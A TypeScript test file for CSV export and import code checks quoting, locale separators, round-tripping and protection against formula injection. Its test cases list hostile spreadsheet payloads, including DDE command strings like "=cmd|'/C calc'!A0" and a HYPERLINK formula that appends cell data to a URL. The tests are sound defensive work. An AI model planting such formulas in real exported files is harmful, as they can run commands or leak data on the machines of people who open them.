import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { csvOf, readCsv, separatorFor } from '#components/tool/exchange/csv-text.ts';
import { listCsv } from '#components/tool/exchange/list-csv.ts';
import { resultCsv } from '#components/tool/exchange/sheet-csv.ts';
import type { Column } from '#components/tool/exchange/place-table.ts';

describe('a CSV file', () => {
  test('begins with a mark, parts lines with CR LF, and quotes what needs it', () => {
    expect(csvOf([['a', 'b "c"', 'd,e', 'f\ng', 'h;i'], ['1']], ',')).toBe(
      '\uFEFFa,"b ""c""","d,e","f\ng","h;i"\r\n1\r\n',
    );
  });

  test('parts cells with semicolons where the comma is the sign for decimals', () => {
    expect(separatorFor('de-DE')).toBe(';');
    expect(separatorFor('en-GB')).toBe(',');
    expect(separatorFor('en-IN')).toBe(',');
    expect(csvOf([['1,5', 'a;b', 'c']], ';')).toContain('"1,5";"a;b";c');
  });

  test.each([
    "=cmd|'/C calc'!A0",
    '@SUM(1+1)*cmd|x!A0',
    "+1+1|cmd|'/C calc'!A0",
    '-2+3+cmd|x!A0',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '  =1+1',
    '＝1+1',
    '=HYPERLINK("https://example.org?"&A1,"Open")',
    "'=1+1",
  ])('%j does not begin a cell, and comes back as it was', async (hostile) => {
    const text = csvOf([[hostile, 'x']], ',');
    expect(text.slice(1).replace(/^"/, '')).toMatch(/^'/);
    expect((await readCsv(text)).rows).toEqual([[hostile, 'x']]);
  });

  test('holds no formula for a spreadsheet that parts cells elsewhere', async () => {
    const hostile = "fine;=cmd|'/C calc'!A0;'@x\n+1+1|y";
    const text = csvOf([[hostile, 'x']], ',');
    expect(text).not.toMatch(/[;,\t\n][=+@]/);
    expect((await readCsv(text)).rows).toEqual([[hostile, 'x']]);
  });

  test.each(['-5', '+5', '-1,234.50', '−40', '12%', '0'])('%s stays a number', (plain) => {
    expect(csvOf([[plain]], ';').replaceAll('"', '')).toBe(`\uFEFF${plain}\r\n`);
  });

  test.each([',', ';', '\t'] as const)(
    'is read back cell for cell, with %j between',
    async (sign) => {
      const cell = fc.oneof(
        fc.string(),
        fc.constantFrom('=1', "'@a", 'a"b', 'x\ny', 'a,b;c\td', '-1', "''", '"'),
      );
      // A row without any text is no row, and one column has no separator to find.
      const rows = fc
        .array(fc.tuple(cell, cell, cell), { minLength: 1, maxLength: 8 })
        .filter((all) => all.every((row) => row.some((text) => text.trim() !== '')));
      await fc.assert(
        fc.asyncProperty(rows, async (all) => {
          const named = [['One', 'Two', 'Three'], ...all];
          const back = await readCsv(csvOf(named, sign));
          expect(back).toEqual({ rows: named, separator: sign });
        }),
      );
    },
  );

  test('of a spreadsheet is read whatever its separator and lines', async () => {
    expect((await readCsv('\uFEFFName;Amount\nA;1,5\n\n')).rows).toEqual([
      ['Name', 'Amount'],
      ['A', '1,5'],
    ]);
    expect((await readCsv('Name\tAmount\r\nA\t2\r\n')).separator).toBe('\t');
  });

  test('that is damaged is read as far as it goes', async () => {
    expect((await readCsv('a,"b\nc,d')).rows.flat().join('')).toContain('a');
    expect((await readCsv('')).rows).toEqual([]);
  });
});

const columns: Column[] = [
  { id: 'name', label: 'Fee', form: { is: 'text' } },
  { id: 'amount', label: 'Amount', form: { is: 'number' } },
  {
    id: 'loved',
    label: 'Loved',
    form: { is: 'choice', options: [{ id: 'yes', label: 'Yes, very' }] },
  },
];

test('a list is written in the reader’s way, under its labels', () => {
  const rows = [{ name: '=A1', amount: '1234.5', loved: 'yes' }, {}];
  expect(listCsv(columns, rows, 'de-DE')).toBe(
    '\uFEFFFee;Amount;Loved\r\n\'=A1;"1234,5";"Yes, very"\r\n;;\r\n',
  );
  expect(listCsv(columns, rows, 'en-GB')).toContain('\'=A1,1234.5,"Yes, very"');
});

test('a result is one file: finding, figures, tables, checks and notes', () => {
  const text = resultCsv({
    finding: [['You grew by ', { point: '30 people' }, '.']],
    figures: [{ id: 'net', label: 'Net', value: '+30', note: 'October' }],
    parts: [
      {
        is: 'table',
        id: 'months',
        title: 'Months',
        twin: { columns: ['Month', 'Lost'], rows: [['=June', '165']], total: ['All', '165'] },
      },
      { is: 'card', id: 'card', title: 'Card', lines: [{ label: 'Who', text: '' }] },
    ],
    checks: [{ state: 'look', text: 'Name an owner.' }],
    notes: [],
  });
  for (const line of ['You grew by 30 people.', 'Net', "'=June", 'All', 'Who', 'Look at this'])
    expect(text).toContain(line);
  expect(text).not.toContain('Notes');
});
